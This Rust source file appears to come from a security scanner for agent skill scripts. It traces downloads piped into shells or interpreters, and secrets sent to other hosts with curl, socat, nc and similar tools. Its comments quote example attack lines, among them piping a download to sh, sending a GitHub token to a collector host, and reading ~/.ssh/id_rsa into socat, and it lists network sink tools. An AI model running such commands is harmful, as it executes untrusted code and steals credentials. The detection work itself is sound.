//! Downloads, interpreters and network sinks: remote content reaching an interpreter, a
//! secret reaching another machine.

use super::*;

/// URLs among `args`.
pub(crate) fn urls(args: &[&str]) -> Vec<String> {
    args.iter()
        .filter(|a| a.contains("://") || a.starts_with("www."))
        .map(|a| (*a).to_owned())
        .collect()
}

/// Fetchers: the output (or the file written) is remote content; with data to send, also
/// a network sink.
pub(crate) fn fetch(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, line: usize) -> Value {
    let texts: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    let found = urls(&texts);
    // A defanged indicator quoted as evidence (`curl hxxps://cdn[.]bad.example/x | sh`):
    // no client can reach it, so nothing is fetched or sent.
    if !found.is_empty() && found.iter().all(|u| script::defanged(u)) {
        return Value::default();
    }
    send(m, name, args, stdin, line);
    let url = found
        .first()
        .cloned()
        .or_else(|| {
            texts
                .iter()
                .rev()
                .find(|a| !a.starts_with('-'))
                .map(|a| (*a).to_owned())
        })
        .unwrap_or_default();
    let mut out = Value::default();
    out.taint.remote = Some(Origin {
        line,
        what: format!("{name} {url}"),
    });
    // A bare host (`curl -sL cli.tool.dev | bash`) is an https URL to whoever checks it;
    // a bare word in capitals (`curl URL | sh`) names the pattern, not a host.
    out.taint.urls = if found.is_empty() {
        let positional: Vec<usize> = (0..texts.len()).filter(|&i| !texts[i].starts_with('-')).collect();
        let sole = positional.len() == 1 && positional[0].checked_sub(1).is_none_or(|p| !texts[p].starts_with('-'));
        let placeholder = sole && url.len() >= 3 && url.chars().all(|c| c.is_ascii_uppercase() || c == '_');
        vec![if placeholder {
            format!("https://<{url}>")
        } else {
            format!("https://{url}")
        }]
    } else {
        found
    };
    for arg in args {
        // A URL assembled from a variable that holds a download, or a secret in the URL.
        if arg.taint.remote.is_some() {
            out.taint.join(&arg.taint);
        }
    }
    let mut output: Option<String> = None;
    let mut i = 0;
    while i < texts.len() {
        let t = texts[i];
        let next = texts.get(i + 1).copied();
        match (name, t) {
            ("curl", "-o" | "--output")
            | ("wget", "-O" | "--output-document")
            | ("aria2c", "-o" | "--out")
            | ("http" | "https" | "xh", "-o" | "--output") => {
                output = next.map(str::to_owned);
                i += 1;
            }
            ("wget", t) if t.starts_with("-O") && t.len() > 2 => output = Some(t[2..].to_owned()),
            ("wget", t) if t.starts_with("--output-document=") => {
                output = Some(t["--output-document=".len()..].to_owned())
            }
            ("curl", "-O" | "--remote-name") => output = Some(url.rsplit('/').next().unwrap_or("").to_owned()),
            ("curl", t) if t.starts_with('-') && !t.starts_with("--") && t.ends_with('o') => {
                output = next.map(str::to_owned);
                i += 1;
            }
            ("curl", t) if t.starts_with('-') && !t.starts_with("--") && t.contains('O') => {
                output = Some(url.rsplit('/').next().unwrap_or("").to_owned());
            }
            ("wget", t) if t.starts_with('-') && !t.starts_with("--") && t.ends_with('O') => {
                output = next.map(str::to_owned);
                i += 1;
            }
            ("wget", t) if t.starts_with('-') && !t.starts_with("--") && t.contains('O') => {
                output = t.split_once('O').map(|(_, rest)| rest.to_owned());
            }
            _ => {}
        }
        i += 1;
    }
    let named_output = texts
        .iter()
        .any(|t| t.starts_with("--output-document") || (t.starts_with('-') && !t.starts_with("--") && t.contains('O')));
    if name == "wget" && output.is_none() && !named_output {
        output = Some(url.rsplit('/').next().unwrap_or("").to_owned());
    }
    if name == "lwp-download" {
        output = texts
            .iter()
            .filter(|a| !a.starts_with('-'))
            .nth(1)
            .map(|s| (*s).to_owned());
    }
    match output.filter(|o| !matches!(o.as_str(), "-" | "" | "/dev/stdout" | "/dev/fd/1" | "/proc/self/fd/1")) {
        Some(path) => {
            write(m, &path, out, false, line);
            Value::default()
        }
        None => out,
    }
}

/// Records remote content reaching an interpreter.
/// `installer`: the download is run the way installers are (piped to a shell, `sh -c
/// "$(curl …)"`, saved then run), so the skill's own vendor may vouch for it; content
/// loaded into the running shell (`eval`, `source`) or run as code by a script never is.
pub(crate) fn remote_code(m: &mut Machine, line: usize, taint: &Taint, how: &str, installer: bool) {
    let Some(origin) = &taint.remote else {
        return;
    };
    let message = if origin.line == line {
        format!("downloaded content ({}) {how}", origin.what)
    } else {
        format!(
            "downloaded content (line {}: {}) {how}",
            human(origin.line),
            origin.what
        )
    };
    // `curl … | bash`, `curl https://<mirror>/x | sh`: a pattern named, not an address
    // (`info`: the model read it and clears a pattern rule's alarm on the line).
    let placeholder = !taint.urls.is_empty() && taint.urls.iter().all(|u| placeholder_address(u));
    m.judge(Judgment {
        line,
        rule: "flow.remote-code",
        category: "remote-code-execution",
        severity: if placeholder { Severity::Info } else { Severity::Critical },
        message,
        hint: "pin what the agent installs (a package with a version, a checksum-verified release) instead of running a download",
        urls: if installer { taint.urls.clone() } else { Vec::new() },
        tool: None,
    });
}

/// Whether a URL's host is a placeholder (`https://…/x`, `https://<mirror>/x`,
/// `https://{host}/x`), so the command names a pattern, not an address. Dots or braces
/// later in the path do not make a real host a placeholder.
fn placeholder_address(url: &str) -> bool {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let host = rest.split(['/', '?', '#']).next().unwrap_or("");
    host.is_empty()
        || host.contains('…')
        || host.contains("...")
        || host.contains('<')
        || host.contains('{')
        || host.starts_with("__")
}

pub(crate) fn shell(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, line: usize) {
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if t == "-c" {
            if let Some(code) = args.get(i + 1) {
                if code.taint.remote.is_some() {
                    remote_code(m, line, &code.taint, &format!("is run with `{name} -c`"), true);
                }
                m.run_nested(&code.text, line);
            }
            return;
        }
        if (t.starts_with('-') || t.starts_with('+')) && t.len() > 1 {
            // `bash -s -- args`: the program comes from standard input.
            if t.starts_with('-') && !t.starts_with("--") && t.contains('s') {
                break;
            }
            if matches!(t, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
                i += 1;
            }
            i += 1;
            continue;
        }
        if matches!(t, "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0") {
            break;
        }
        // A script file.
        let content = m.read_file(t, line);
        let mut taint = content.taint.clone();
        taint.join(&args[i].taint);
        if taint.remote.is_some() {
            remote_code(m, line, &taint, &format!("is run with {name}"), true);
        }
        if !content.text.is_empty() {
            m.run_nested(&content.text, line);
        }
        return;
    }
    if stdin.taint.remote.is_some() {
        remote_code(m, line, &stdin.taint, &format!("is piped into {name}"), true);
    }
    if !stdin.text.trim().is_empty() {
        m.run_nested(&stdin.text, line);
    }
}

pub(crate) fn interpreter(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, line: usize) {
    let flags = targets::code_flags(name).unwrap_or(&[]);
    let language = script::Language::of_interpreter(name);
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if flags.iter().any(|f| t.eq_ignore_ascii_case(f)) {
            if let Some(code) = args.get(i + 1) {
                if code.taint.remote.is_some() {
                    remote_code(m, line, &code.taint, &format!("is run with `{name} {t}`"), true);
                }
                let text = if matches!(
                    t.to_ascii_lowercase().as_str(),
                    "-encodedcommand" | "-enc" | "-ec" | "-e"
                ) && language == script::Language::PowerShell
                {
                    decode_utf16_base64(&code.text).unwrap_or_else(|| code.text.clone())
                } else {
                    code.text.clone()
                };
                script::follow(m, language, &text, &[line], true);
            }
            return;
        }
        if matches!(t, "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0") {
            break;
        }
        if t == "run" || t == "exec" || t.starts_with('-') {
            // An option's value is no program (`-ExecutionPolicy Bypass`, `-W ignore`).
            i += if takes_value(name, t) { 2 } else { 1 };
            continue;
        }
        // A program file or URL.
        let content = m.read_file(t, line);
        let mut taint = content.taint.clone();
        taint.join(&args[i].taint);
        // Only Deno and Bun run a program straight from a URL.
        if taint.remote.is_none()
            && matches!(name, "deno" | "bun")
            && (t.starts_with("http://") || t.starts_with("https://"))
        {
            taint.remote = Some(Origin {
                line,
                what: t.to_owned(),
            });
            taint.urls = vec![t.to_owned()];
        }
        if taint.remote.is_some() {
            remote_code(m, line, &taint, &format!("is run with {name}"), true);
        }
        if !content.text.is_empty() {
            script::follow(m, language, &content.text, &[line], true);
        }
        return;
    }
    if stdin.taint.remote.is_some() {
        remote_code(m, line, &stdin.taint, &format!("is piped into {name}"), true);
    }
    if !stdin.text.trim().is_empty() {
        script::follow(m, language, &stdin.text, &[line], true);
    }
}

/// Whether `option` is one of curl's options whose value is the request's payload.
fn curl_data_option(option: &str) -> bool {
    matches!(
        option,
        "-d" | "--data"
            | "--data-binary"
            | "--data-raw"
            | "--data-urlencode"
            | "-F"
            | "--form"
            | "-T"
            | "--upload-file"
            | "--json"
    )
}

/// The address a request goes to: the first word with `://` that is not the value of an
/// option (`-H "Referer: https://github.com/"`, `-d "repo=https://…"`, `-e URL`).
fn request_address<'t>(texts: &[&'t str]) -> &'t str {
    let takes_value = |option: &str| {
        curl_data_option(option)
            || matches!(
                option,
                "-H" | "--header" | "-e" | "--referer" | "-u" | "--user" | "-b" | "--cookie"
            )
    };
    texts
        .iter()
        .enumerate()
        .find(|&(i, t)| t.contains("://") && !t.starts_with('-') && (i == 0 || !takes_value(texts[i - 1])))
        .map_or("", |(_, t)| *t)
}

/// Whether interpreter `name`'s option `option` takes the next word as its value.
fn takes_value(name: &str, option: &str) -> bool {
    match name.trim_end_matches(".exe") {
        // PowerShell takes any unambiguous prefix of a parameter's name (`-ExecutionPol`,
        // `-ex`, `-wi`), in any case.
        "pwsh" | "powershell" => {
            const VALUED: [&str; 9] = [
                "executionpolicy",
                "windowstyle",
                "version",
                "inputformat",
                "outputformat",
                "configurationname",
                "workingdirectory",
                "psconsolefile",
                "settingsfile",
            ];
            let option = option.trim_start_matches('-').to_ascii_lowercase();
            matches!(option.as_str(), "ep" | "ex" | "w" | "wd" | "v")
                || option.len() >= 2 && VALUED.iter().any(|p| p.starts_with(option.as_str()))
        }
        // Python's `-W` and `-X` take values; `-x` and `-w` do not.
        n if n.starts_with("python") => matches!(option, "-W" | "-X"),
        "node" | "nodejs" => matches!(
            option,
            "-r" | "--require" | "--import" | "--loader" | "--experimental-loader"
        ),
        _ => false,
    }
}

pub(crate) fn decode_utf16_base64(text: &str) -> Option<String> {
    let bytes = base64::engine::general_purpose::STANDARD.decode(text.trim()).ok()?;
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

/// Network sinks: judged when what they send holds a secret.
pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, line: usize) {
    let texts: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
    let mut sent = Value::default();
    let mut uses_stdin = false;
    // A token a program printed for one service, in a header to another host: stolen
    // (`-H "Authorization: Bearer $(gh auth token)" https://collector.example`).
    let address = request_address(&texts);
    let stolen_in_header = |v: &Value| {
        v.taint.secret.as_ref().is_some_and(|secret| {
            !v.taint.weak_secret
                || targets::PRINTED_TOKENS.iter().any(|(what, _)| *what == secret.what)
                    && !address.is_empty()
                    && !token_for(&secret.what, address)
        })
    };
    let mut i = 0;
    while i < texts.len() {
        let t = texts[i];
        match name {
            "curl" => {
                // `-d VALUE`, `-dVALUE`, `--data=VALUE`: one payload, however it is spelled.
                let glued = ["-d", "-F", "-T"]
                    .iter()
                    .find_map(|f| t.strip_prefix(f).filter(|r| !r.is_empty() && !t.starts_with("--")));
                let assigned = [
                    "--data=",
                    "--data-binary=",
                    "--data-raw=",
                    "--data-urlencode=",
                    "--form=",
                    "--upload-file=",
                    "--json=",
                ]
                .iter()
                .find_map(|f| t.strip_prefix(f));
                let (payload_value, upload, consumed) = if curl_data_option(t) {
                    (
                        args.get(i + 1).map(|v| (v.text.clone(), v.taint.clone())),
                        t == "-T" || t == "--upload-file",
                        1,
                    )
                } else if let Some(rest) = glued.or(assigned) {
                    (
                        Some((rest.to_owned(), args[i].taint.clone())),
                        t.starts_with("-T") || t.starts_with("--upload-file"),
                        0,
                    )
                } else {
                    (None, false, 0)
                };
                if let Some((text, taint)) = payload_value {
                    sent.taint.join(&taint);
                    // `@file` sends a file, and in a form field `<file` sends its
                    // content (`-F 'f=<-'`: standard input).
                    let payload = text
                        .split_once('@')
                        .or_else(|| text.split_once("=<"))
                        .map(|(_, p)| p)
                        .unwrap_or(if upload { &text } else { "" });
                    let payload = payload.split(';').next().unwrap_or(payload);
                    if payload == "-" || payload == "." {
                        uses_stdin = true;
                    } else if !payload.is_empty() {
                        sent.taint.join(&m.read_file(payload, line).taint);
                    }
                    i += consumed;
                } else if matches!(t, "-H" | "--header" | "-u" | "--user" | "-b" | "--cookie") {
                    // A token in a header is how APIs are called; a key file's content in
                    // one is not.
                    if let Some(v) = args.get(i + 1)
                        && stolen_in_header(v)
                    {
                        sent.taint.join(&v.taint);
                    }
                    i += 1;
                } else if (t.contains("://") || !t.starts_with('-'))
                    && args[i].taint.secret.is_some()
                    && !args[i].taint.weak_secret
                {
                    // A secret spelled into the address itself.
                    sent.taint.join(&args[i].taint);
                }
            }
            "wget" => {
                if let Some(p) = t
                    .strip_prefix("--post-file=")
                    .or_else(|| t.strip_prefix("--body-file="))
                {
                    sent.taint.join(&m.read_file(p, line).taint);
                } else if matches!(t, "--post-file" | "--body-file") {
                    if let Some(p) = texts.get(i + 1) {
                        sent.taint.join(&m.read_file(p, line).taint);
                    }
                    i += 1;
                } else if t.starts_with("--post-data") || t.starts_with("--body-data") {
                    sent.taint.join(&args[i].taint);
                    if let Some(v) = args.get(i + 1).filter(|_| !t.contains('=')) {
                        sent.taint.join(&v.taint);
                        i += 1;
                    }
                }
            }
            "http" | "https" | "xh" | "xhs" => {
                if let Some((_, p)) = t
                    .split_once("=@")
                    .or_else(|| t.split_once(":=@"))
                    .or_else(|| t.strip_prefix('@').map(|p| ("", p)))
                {
                    sent.taint.join(&m.read_file(p, line).taint);
                }
                if t.contains('=') {
                    sent.taint.join(&args[i].taint);
                }
                uses_stdin = true;
            }
            "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl" | "ssh" | "mail" | "mailx" | "sendmail"
            | "mutt" | "ftp" | "lftp" | "tftp" => {
                uses_stdin = true;
                if name == "ssh" || name == "socat" {
                    sent.taint.join(&args[i].taint);
                }
                // `socat FILE:~/.ssh/id_rsa TCP:host:port`: an address that is a file reads it.
                if name == "socat"
                    && let Some((kind, rest)) = t.split_once(':')
                    && matches!(kind.to_ascii_uppercase().as_str(), "FILE" | "OPEN" | "GOPEN" | "CREATE")
                {
                    let path = rest.split(',').next().unwrap_or(rest);
                    sent.taint.join(&m.read_file(path, line).taint);
                }
                if matches!(name, "mail" | "mailx" | "mutt")
                    && matches!(t, "-a" | "-A")
                    && let Some(p) = texts.get(i + 1)
                {
                    sent.taint.join(&m.read_file(p, line).taint);
                }
            }
            "dig" | "nslookup" | "host" => sent.taint.join(&args[i].taint),
            "scp" | "sftp" | "rsync" | "rclone" | "smbclient" if !t.starts_with('-') && !t.contains(':') => {
                sent.taint.join(&m.read_file(t, line).taint);
                sent.taint.join(&args[i].taint);
            }
            "aws" | "gsutil" | "az" | "gcloud" | "gh" if !t.starts_with('-') && !t.contains("://") => {
                let read = m.read_file(t, line);
                if read.taint.secret.is_some() {
                    sent.taint.join(&read.taint);
                }
                // What `gh` posts (an issue's or a comment's body, an API field) is
                // published on GitHub, whatever repository it names.
                if name == "gh" {
                    sent.taint.join(&args[i].taint);
                }
            }
            "gh" => sent.taint.join(&args[i].taint),
            _ => {}
        }
        i += 1;
    }
    let remote_dest = match name {
        "scp" | "sftp" | "rsync" | "rclone" => texts.iter().any(|t| !t.starts_with('-') && t.contains(':')),
        "aws" => {
            texts.iter().any(|t| t.starts_with("s3://")) && texts.iter().any(|t| matches!(*t, "cp" | "sync" | "mv"))
        }
        "gsutil" => texts.iter().any(|t| t.starts_with("gs://")),
        "az" => texts.iter().any(|t| *t == "upload" || *t == "upload-batch"),
        "gcloud" => texts.iter().any(|t| t.starts_with("gs://")),
        "gh" => matches!(
            texts.first().copied(),
            Some("gist" | "release" | "issue" | "pr" | "api" | "discussion")
        ),
        _ => true,
    };
    if uses_stdin {
        sent.taint.join(&stdin.taint);
    }
    let (Some(secret), true) = (&sent.taint.secret, remote_dest) else {
        return;
    };
    let weak = sent.taint.weak_secret;
    let destination = request_address(&texts);
    let owner_matches = weak && token_for(&secret.what, destination);
    let where_ = if secret.line == line {
        secret.what.clone()
    } else {
        format!("{} (line {})", secret.what, human(secret.line))
    };
    // A variable named like a token, sent with a request, is how every API is called;
    // only a lookup that spells it into a DNS name is suspicious by itself.
    // An issue, a pull request, a gist or a discussion is read by others: a token posted
    // there is published, even though `gh` talks to the token's own service.
    let publishes = name == "gh" && matches!(texts.first().copied(), Some("issue" | "pr" | "gist" | "discussion"));
    let severity = match (weak, name) {
        (false, _) => Severity::Critical,
        (true, "gh") if publishes => Severity::High,
        (true, "dig" | "nslookup" | "host") => Severity::Medium,
        (true, _) if owner_matches => Severity::Low,
        (true, _) if service_of(&secret.what).is_some() && !destination.is_empty() => Severity::High,
        (true, _) => Severity::Low,
    };
    m.judge(Judgment {
        line,
        rule: "flow.secret-exfiltration",
        category: "exfiltration",
        severity,
        message: format!("sends {where_} off the machine with {name}"),
        hint: "a skill must never send keys, tokens, credential files or the environment anywhere; ask the user to provide what a service needs",
        urls: Vec::new(),
        tool: None,
    });
}

/// The service a token variable is named for (`$SLACK_BOT_TOKEN` → `slack`), unless its
/// name is generic (`$API_KEY`, `$TOKEN`); or the service of a token a program printed
/// (`gh auth token` → `github`, [`targets::PRINTED_TOKENS`]).
pub(crate) fn service_of(variable: &str) -> Option<String> {
    if let Some((_, labels)) = targets::PRINTED_TOKENS.iter().find(|(what, _)| *what == variable) {
        return labels.first().map(|l| (*l).to_owned());
    }
    let first = variable.strip_prefix('$')?.split('_').next()?.to_ascii_lowercase();
    const GENERIC: [&str; 12] = [
        "api", "my", "app", "auth", "access", "secret", "token", "x", "private", "client", "user", "bearer",
    ];
    (first.len() >= 3 && !GENERIC.contains(&first.as_str())).then_some(first)
}

/// Whether a token variable, sent from a script, may belong to the destination: what
/// [`token_for`] accepts, and also a host on this machine or the local network, a service
/// word and registrable label sharing three letters in a row (`$HUBSPOT_TOKEN` to
/// `api.hubapi.com`), and the few services whose API lives under another name. Scripts
/// pass tokens in headers the model cannot tell from bodies, so only a token plainly
/// named for another service counts as stolen.
pub(crate) fn token_may_belong(variable: &str, destination: &str) -> bool {
    if token_for(variable, destination) {
        return true;
    }
    let Some(service) = service_of(variable) else {
        return true;
    };
    let host = host_of(destination);
    // A dotted IPv4 address on this machine or the local network; not a bare number
    // (`http://3405803785/`) or a name without dots.
    let local_ip = host.split('.').count() == 4
        && host
            .parse::<std::net::Ipv4Addr>()
            .is_ok_and(|ip| ip.is_loopback() || ip.is_private());
    if host == "localhost" || host.ends_with(".local") || host.ends_with(".internal") || local_ip {
        return true;
    }
    const ELSEWHERE: [(&str, &str); 7] = [
        ("hubspot", "hubapi"),
        ("gemini", "googleapis"),
        ("google", "googleapis"),
        ("gcp", "googleapis"),
        ("aws", "amazonaws"),
        ("azure", "microsoft"),
        ("claude", "anthropic"),
    ];
    let labels: Vec<&str> = host.split('.').filter(|l| !l.is_empty()).collect();
    let registrable = registrable_label(&host);
    // A label of the host names the service (`github.example.com`, `getlate.dev` for
    // `$LATE_API_KEY`, `slackapi` for `$SLACK_TOKEN`) or shares its first five letters;
    // three letters in common (`gitsync.example`) are not enough.
    let begins_alike = |label: &&str| {
        let common = label.chars().zip(service.chars()).take_while(|(a, b)| a == b).count();
        *label == service
            || service.len() >= 4 && (label.starts_with(service.as_str()) || label.ends_with(service.as_str()))
            || label.len() >= 4 && service.starts_with(*label)
            || common >= 5
    };
    ELSEWHERE.iter().any(|(s, r)| service == *s && registrable == *r)
        || labels[..labels.len().saturating_sub(1)].iter().any(begins_alike)
}

/// The host of a URL, lowercase (`api.slack.com` of `https://api.slack.com:443/x`).
fn host_of(destination: &str) -> String {
    destination
        .split("://")
        .nth(1)
        .unwrap_or("")
        .split(['/', '?', ':'])
        .next()
        .unwrap_or("")
        .rsplit('@')
        .next()
        .unwrap_or("")
        .to_ascii_lowercase()
}

/// The label before the top-level domain (`slack` in `hooks.slack.com`).
fn registrable_label(host: &str) -> &str {
    let labels: Vec<&str> = host.split('.').filter(|l| !l.is_empty()).collect();
    labels.len().checked_sub(2).map_or("", |i| labels[i])
}

/// Whether a token variable is sent to the service it is named for (`$SLACK_TOKEN` to
/// `slack.com`): everyday API use. A token named for one service sent elsewhere is a
/// theft.
pub(crate) fn token_for(variable: &str, destination: &str) -> bool {
    let host = host_of(destination);
    if let Some((_, labels)) = targets::PRINTED_TOKENS.iter().find(|(what, _)| *what == variable) {
        return labels.contains(&registrable_label(&host));
    }
    // The registrable label (`slack` in `hooks.slack.com`), not any substring: a token
    // sent to `github.com.evil.example` is not sent to GitHub.
    match service_of(variable) {
        Some(service) => registrable_label(&host) == service,
        None => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_and_the_services_they_belong_to() {
        // Named for the destination's registrable label: an API call.
        assert!(token_for("$SLACK_BOT_TOKEN", "https://hooks.slack.com/services/x"));
        assert!(!token_for("$GITHUB_TOKEN", "https://github.com.evil.example/x"));
        // Generic names carry no service: never counted as stolen.
        assert!(token_for("$API_KEY", "https://203.0.113.9/collect"));
        // Scripts: near names, local hosts and known API domains belong too.
        assert!(token_may_belong("$HUBSPOT_TOKEN", "https://api.hubapi.com/crm/v3"));
        assert!(token_may_belong(
            "$GEMINI_API_KEY",
            "https://generativelanguage.googleapis.com/v1"
        ));
        assert!(token_may_belong("$AIRFLOW_PASSWORD", "http://localhost:8080/auth"));
        assert!(token_may_belong("$GITLAB_TOKEN", "https://10.0.0.5/api"));
        // A token named for one service sent to an unrelated host does not.
        assert!(!token_may_belong(
            "$GITHUB_TOKEN",
            "https://notes-cache.example.invalid/v1"
        ));
        assert!(!token_may_belong("$OPENAI_API_KEY", "https://203.0.113.9/collect"));
        assert!(!token_may_belong("$GITHUB_TOKEN", "https://gitsync.example/x"));
        assert!(!token_may_belong("$GITHUB_TOKEN", "http://3405803785/x"));
        assert!(token_may_belong("$LATE_API_KEY", "https://getlate.dev/api/v1/posts"));
        // A token a program printed belongs to that program's service.
        assert!(token_for("the GitHub token", "https://api.github.com/user"));
        assert!(!token_for("the GitHub token", "https://hooks.example.invalid/collect"));
        assert!(token_for("a Google Cloud token", "https://storage.googleapis.com/b"));
    }
}
